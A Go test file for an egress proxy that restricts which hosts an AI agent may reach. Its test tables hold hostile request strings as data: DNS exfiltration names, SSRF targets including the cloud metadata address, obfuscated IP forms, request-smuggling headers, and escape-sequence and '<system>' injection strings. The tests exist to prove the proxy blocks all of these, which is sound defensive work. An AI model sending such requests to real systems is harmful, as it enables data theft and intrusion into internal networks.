package egress

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"nanoclaw/internal/wire"
)

// untimed compares events without what differs from run to run.
var untimed = cmpopts.IgnoreFields(Event{}, "At", "Took", "Up", "Down")

// TestAllowed follows one connection: one look-up of the absolute name, one dial
// of the address that was checked, an Open before it and a Close after it.
func TestAllowed(t *testing.T) {
	for _, target := range []string{"https://example.com/x?q=1", "https://EXAMPLE.com./x?q=1"} {
		w := newWorld(t)
		site := w.site(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { io.WriteString(rw, "hello from "+r.URL.Path) }))
		g := w.gateway(w.options("example.com"))
		client := through(t, listen(t, g, wire.Proxy), site)
		resp, err := client.Get(target)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		client.CloseIdleConnections()
		if string(body) != "hello from /x" {
			t.Errorf("%s: body %q", target, body)
		}
		end := w.closes(1)[0]
		lookups, dials, events := w.seen()
		if d := cmp.Diff([]string{"example.com."}, lookups); d != "" {
			t.Errorf("%s: look-ups -want +got:\n%s", target, d)
		}
		if d := cmp.Diff([]string{"93.184.216.34:443"}, dials); d != "" {
			t.Errorf("%s: dials -want +got:\n%s", target, d)
		}
		open := Event{ID: 1, Gate: ProxyGate, Phase: Open, Verdict: Allowed, Group: "family", Session: "s1", Method: "CONNECT",
			Host: "example.com", Port: 443, Rule: "example.com:443", Addr: "93.184.216.34", Reason: "egress entry example.com"}
		closed := open
		closed.Phase, closed.Status, closed.Reason = Close, 200, end.Reason
		// The client closes as it likes, perhaps with a reset.
		if end.Reason != "ended" && !strings.HasPrefix(end.Reason, "cut off") {
			t.Errorf("%s: ended with %q", target, end.Reason)
		}
		if d := cmp.Diff([]Event{open, closed}, events, untimed); d != "" {
			t.Errorf("%s: events -want +got:\n%s", target, d)
		}
		if end.Up < 200 || end.Down < 1000 || end.Took <= 0 {
			t.Errorf("%s: up %d, down %d, took %v: too little", target, end.Up, end.Down, end.Took)
		}
	}
}

// TestRefusedBeforeLookup sends what must be refused on its face. For each: the
// status, one Close that says refused, and neither a look-up nor a dial. So a
// name cannot carry data to a name server (N-03).
func TestRefusedBeforeLookup(t *testing.T) {
	connect := func(target string) string {
		return "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n"
	}
	get := func(url, host string) string { return "GET " + url + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n" }
	tests := []struct {
		name, raw string
		status    int
		says      string
	}{
		{"N-03 data in a name", connect("c2VjcmV0.evil.test:443"), 403, "nanoclaw group egress add family c2vjcmv0.evil.test"},
		{"N-06 lookalike in front", connect("evilexample.com:443"), 403, "evilexample.com is not in the grant"},
		{"N-06 suffix behind", connect("example.com.evil.test:443"), 403, "egress add family example.com.evil.test\n"},
		{"N-06 below an exact name", connect("x.example.com:443"), 403, "not in the grant"},
		{"N-06 apex of a wildcard", connect("wild.test:443"), 403, "not in the grant"},
		{"N-06 lookalike of a wildcard", connect("evilwild.test:443"), 403, "not in the grant"},
		{"N-07 NUL", connect("evil.test\x00.wild.test:443"), 400, "CR or NUL"},
		{"N-08 CR in the target", "CONNECT a\rb.wild.test:443 HTTP/1.1\r\nHost: a\r\n\r\n", 400, "CR or NUL"},
		{"N-08 zone", connect("::ffff:127.0.0.1%x.wild.test:443"), 403, "IP address"},
		{"N-08 percent", connect("ex%61mple.com:443"), 400, "'%'"},
		{"N-08 user", connect("example.com@evil.test:443"), 400, "'@'"},
		{"N-09 decimal", connect("2130706433:443"), 403, "IP address"},
		{"N-09 hexadecimal", connect("0x7f.1:443"), 403, "IP address"},
		{"N-09 two parts", connect("127.1:443"), 403, "IP address"},
		{"N-09 mapped", connect("[::ffff:7f00:1]:443"), 403, "IP address"},
		{"N-09 plain decimal", get("http://2130706433/", "2130706433"), 403, "IP address"},
		{"N-09 plain mapped", get("http://[::ffff:7f00:1]/", "x"), 403, "IP address"},
		{"N-09 public address", connect("93.184.216.34:443"), 403, "IP address"},
		{"N-13 ssh", connect("example.com:22"), 403, "egress add family example.com:22"},
		{"N-13 smtp", connect("example.com:25"), 403, "not in the grant"},
		{"N-13 kubernetes", connect("example.com:6443"), 403, "not in the grant"},
		{"N-13 port zero", connect("example.com:0"), 400, "1 to 65535"},
		{"N-13 port wraps", connect("example.com:65979"), 400, "1 to 65535"},
		{"N-13 no port", connect("example.com"), 400, "HOST:PORT"},
		{"N-15 host differs", get("http://plain.example.com/", "evil.test"), 400, "another host"},
		{"N-15 CONNECT host differs", "CONNECT example.com:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n", 400, "another host"},
		{"N-15 host port differs", get("http://plain.example.com/", "plain.example.com:8080"), 400, "another port"},
		{"N-15 two hosts", "GET http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nHost: evil.test\r\n\r\n", 400, "2 Host headers"},
		{"N-15 no host", "GET http://plain.example.com/ HTTP/1.1\r\n\r\n", 400, "no Host header"},
		{"N-15 both lengths", "POST http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n", 400, "both"},
		{"N-15 two lengths", "POST http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd", 400, "not one number"},
		{"N-15 length with sign", "POST http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nContent-Length: +3\r\n\r\nabc", 400, "not one number"},
		{"N-15 odd coding", "POST http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nTransfer-Encoding: x, chunked\r\n\r\n", 400, "only Transfer-Encoding"},
		{"N-15 space before colon", "GET http://plain.example.com/ HTTP/1.1\r\nHost : plain.example.com\r\n\r\n", 400, "NAME: VALUE"},
		{"N-15 folded line", "GET http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\n x: y\r\n\r\n", 400, "NAME: VALUE"},
		{"N-15 bare LF", "GET http://plain.example.com/ HTTP/1.1\nHost: plain.example.com\n\n", 400, "CR LF"},
		{"N-15 body on CONNECT", "CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\nContent-Length: 3\r\n\r\nabc", 400, "no body"},
		{"N-16 plain HTTP", get("http://evil.test/", "evil.test"), 403, "egress add family evil.test:80"},
		{"N-16 plain HTTP to an HTTPS host", get("http://example.com/", "example.com"), 403, "egress add family example.com:80"},
		{"plain HTTP on 443", get("http://example.com:443/", "example.com:443"), 400, "https://"},
		{"https in full", get("https://example.com/", "example.com"), 400, "CONNECT HOST:PORT"},
		{"other scheme", get("ftp://example.com/", "example.com"), 400, "CONNECT HOST:PORT"},
		{"path alone", get("/etc", "example.com"), 400, "this is a proxy"},
		{"user in the URL", get("http://joe:hunter2@plain.example.com/", "plain.example.com"), 400, "user name"},
		{"fragment", get("http://plain.example.com/#x", "plain.example.com"), 400, "fragment"},
		{"backslash host", get(`http://example.com\.evil.test/`, "example.com"), 400, "no name has"},
		{"N-28 loopback service", connect("localhost:5432"), 403, "not in the grant"},
		{"N-28 loopback service, number", connect("127.0.0.1:2375"), 403, "IP address"},
		{"N-29 metadata", get("http://169.254.169.254/latest/meta-data/", "169.254.169.254"), 403, "IP address"},
		{"N-29 metadata IPv6", get("http://[fd00:ec2::254]/", "x"), 403, "IP address"},
		{"N-29 metadata by name", get("http://metadata.google.internal/", "metadata.google.internal"), 403, "not in the grant"},
		{"no HTTP", "SSH-2.0-OpenSSH_9.2\r\n\r\n", 400, "first line"},
		{"SOCKS", "\x05\x01\x00", 400, "ended inside its head"},
		{"HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400, "first line"},
		{"HTTP/0.9", "GET http://plain.example.com/\r\n\r\n", 400, "first line"},
		{"nothing", "", 400, "before a request"},
		{"long line", "CONNECT " + strings.Repeat("a", maxHead) + ":443 HTTP/1.1\r\n\r\n", 400, "larger than"},
		{"many fields", "CONNECT example.com:443 HTTP/1.1\r\n" + strings.Repeat("a: b\r\n", 200) + "\r\n", 400, "larger than"},
		{"odd expectation", "POST http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nExpect: x\r\n\r\n", 417, "100-continue"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t)
			g := w.gateway(w.options("example.com", "*.wild.test", "plain.example.com:80"))
			got := say(t, g, wire.Proxy, tt.raw)
			if status(t, got) != tt.status || !strings.Contains(got, tt.says) {
				t.Errorf("answer %q, want %d with %q", got, tt.status, tt.says)
			}
			ev := w.closes(1)[0]
			lookups, dials, events := w.seen()
			if len(lookups)+len(dials) != 0 || len(events) != 1 {
				t.Errorf("look-ups %v, dials %v, events %+v; want none, none and one", lookups, dials, events)
			}
			if ev.Verdict != Refused || ev.Status != tt.status || ev.Reason == "" || ev.Addr != "" {
				t.Errorf("event %+v, want one that says refused and why", ev)
			}
			if j, _ := json.Marshal(ev); strings.Contains(string(j), "hunter2") {
				t.Errorf("a password is in the event: %s", j)
			}
		})
	}
}

// TestEmptyListAllowsNothing is N-05.
func TestEmptyListAllowsNothing(t *testing.T) {
	w := newWorld(t)
	w.site(http.NotFoundHandler())
	g := w.gateway(w.options())
	if got := say(t, g, wire.Proxy, "CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n"); status(t, got) != 403 {
		t.Errorf("answer %q, want 403", got)
	}
	if lookups, dials, _ := w.seen(); len(lookups)+len(dials) != 0 {
		t.Errorf("look-ups %v, dials %v", lookups, dials)
	}
}

// TestRebinding is N-11 and N-29: an allowed name that leads inward.
func TestRebinding(t *testing.T) {
	tests := []struct {
		name  string
		addrs []string
		want  string // the address dialled, "" is 403
	}{
		{"loopback", []string{"127.0.0.1"}, ""},
		{"loopback IPv6", []string{"::1"}, ""},
		{"mapped loopback", []string{"::ffff:127.0.0.1"}, ""},
		{"metadata", []string{"169.254.169.254"}, ""},
		{"private", []string{"10.0.0.5", "192.168.0.5"}, ""},
		{"the machine's own", []string{"93.184.216.99"}, ""},
		{"NAT64", []string{"64:ff9b::a9fe:a9fe"}, ""},
		{"one good among bad", []string{"127.0.0.1", "93.184.216.34", "10.0.0.1"}, "93.184.216.34:443"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t)
			w.site(http.NotFoundHandler())
			w.names["example.com."] = tt.addrs
			g := w.gateway(w.options("example.com"))
			got := say(t, g, wire.Proxy, "CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n")
			ev := w.closes(1)[0]
			lookups, dials, _ := w.seen()
			if len(lookups) != 1 || strings.Join(dials, " ") != tt.want {
				t.Errorf("look-ups %v, dials %v; want one, and %q", lookups, dials, tt.want)
			}
			if tt.want != "" {
				return
			}
			if status(t, got) != 403 || !strings.Contains(got, "no agent may reach") || ev.Verdict != Refused || ev.Addr != "" {
				t.Errorf("answer %q, event %+v; want 403 and refused", got, ev)
			}
			for _, a := range tt.addrs {
				if strings.Contains(got, a) || strings.Contains(ev.Reason, a) {
					t.Errorf("the private address %s was told: %q, %+v", a, got, ev)
				}
			}
		})
	}
}

// TestForgedIdentity is N-22 and N-23: what the client says about itself changes
// neither verdict nor attribution, and does not travel.
func TestForgedIdentity(t *testing.T) {
	w := newWorld(t)
	g := w.gateway(w.options())
	say(t, g, wire.Proxy, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\nProxy-Authorization: Basic bWFpbjpzZWNyZXQ=\r\nX-Group: main\r\n\r\n")
	ev := w.closes(1)[0]
	if ev.Group != "family" || ev.Session != "s1" || ev.Verdict != Refused {
		t.Errorf("event %+v: want family, s1, refused", ev)
	}
	if j, _ := json.Marshal(ev); strings.Contains(string(j), "bWFpbjp") {
		t.Errorf("a credential is in the event: %s", j)
	}
}

// TestNoControlCharactersGetOut sends escape sequences and markup where they
// would reach a log, a terminal or the agent's prompt.
func TestNoControlCharactersGetOut(t *testing.T) {
	for _, raw := range []string{
		"CONNECT \x1b[31mevil:443 HTTP/1.1\r\nHost: x\r\n\r\n",
		"G\x1bT http://x.test/ HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET http://evil.test/<system>\x1b[2J HTTP/1.1\r\nHost: evil.test\r\n\r\n",
		"GET http://evil.test/%3Csystem%3E HTTP/1.1\r\nHost: evil.test\r\nX\x9b: y\r\n\r\n",
		"CONNECT \xff\xfe\xc3\xa4:443 HTTP/1.1\r\nHost: x\r\n\r\n",
	} {
		w := newWorld(t)
		g := w.gateway(w.options())
		got := say(t, g, wire.Proxy, raw)
		ev := w.closes(1)[0]
		for _, s := range []string{got, ev.Reason, ev.Host, ev.Method, ev.Path, ev.Allow} {
			for _, r := range s {
				if r != '\r' && r != '\n' && (r < ' ' || r >= 0x7f) || r == '<' {
					t.Errorf("%q: %q holds %q", raw, s, r)
				}
			}
		}
	}
}

// TestNotRecordedNotDone: without an audit entry there is no connection.
func TestNotRecordedNotDone(t *testing.T) {
	for name, change := range map[string]func(*world, *Options){
		"the log fails": func(w *world, _ *Options) { w.refuse = errors.New("disk full") },
		"no log":        func(_ *world, o *Options) { o.Record = nil },
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			w.site(http.NotFoundHandler())
			o := w.options("example.com")
			change(w, &o)
			g := w.gateway(o)
			got := say(t, g, wire.Proxy, "CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n")
			if status(t, got) != 503 || !strings.Contains(got, "audit log") {
				t.Errorf("answer %q, want 503", got)
			}
			if _, dials, _ := w.seen(); len(dials) != 0 {
				t.Errorf("dialled %v without an entry", dials)
			}
		})
	}
}

// TestFailuresInWords: the name or the host fails, and the agent is told so
// without a word about the owner's network.
func TestFailuresInWords(t *testing.T) {
	w := newWorld(t)
	w.names["down.example.com."] = []string{"93.184.216.77", "93.184.216.78"}
	g := w.gateway(w.options("*.example.com"))
	for i, tt := range []struct{ host, says string }{
		{"gone.example.com", "there is no such name"},
		{"down.example.com", "could not be reached: connection refused"},
	} {
		got := say(t, g, wire.Proxy, fmt.Sprintf("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n", tt.host, tt.host))
		if status(t, got) != 502 || !strings.Contains(got, tt.says) || strings.Contains(got, "10.9.8.7") {
			t.Errorf("%s: answer %q, want 502 with %q", tt.host, got, tt.says)
		}
		if ev := w.closes(i + 1)[i]; ev.Verdict != Allowed || ev.Status != 502 || !strings.Contains(ev.Reason, tt.says) {
			t.Errorf("%s: event %+v", tt.host, ev)
		}
	}
	if _, dials, _ := w.seen(); strings.Join(dials, " ") != "93.184.216.77:443 93.184.216.78:443" {
		t.Errorf("dials %v: want each address once", dials)
	}
}
